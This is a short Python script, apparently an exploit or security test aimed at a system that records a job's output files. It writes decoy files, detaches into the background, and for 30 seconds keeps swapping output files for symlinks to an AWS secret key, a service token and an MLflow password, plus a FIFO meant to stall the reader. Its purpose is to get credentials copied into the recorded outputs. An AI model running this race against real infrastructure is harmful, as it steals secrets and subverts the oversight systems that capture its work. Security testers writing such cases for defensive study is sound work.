# Files of an output that become links to the recorder's credentials, or FIFOs, while they are read.
import itertools
os.makedirs("outputs/model", exist_ok=True)
for each in range(400):
    open(f"outputs/model/a{each:04d}", "w").write(str(each))
aims = {"z1": "/credentials/pedigree-artifact-store/AWS_SECRET_ACCESS_KEY", "z2": "/var/run/secrets/pedigree.dev/token",
        "z3": "/credentials/mlflow/password"}
for name in (*aims, "z4"):
    open("outputs/model/" + name, "w").write("harmless")
if os.fork():
    time.sleep(0.5)
    sys.exit(0)
os.setsid()
end = time.time() + 30
for turn in itertools.count():
    if time.time() > end:
        break
    for name, aim in aims.items():
        if turn % 2:
            os.symlink(aim, "outputs/t" + name)
        else:
            open("outputs/t" + name, "w").write("harmless")
        os.rename("outputs/t" + name, "outputs/model/" + name)
    if turn == 0:
        os.mkfifo("outputs/f")
        os.rename("outputs/f", "outputs/model/z4")
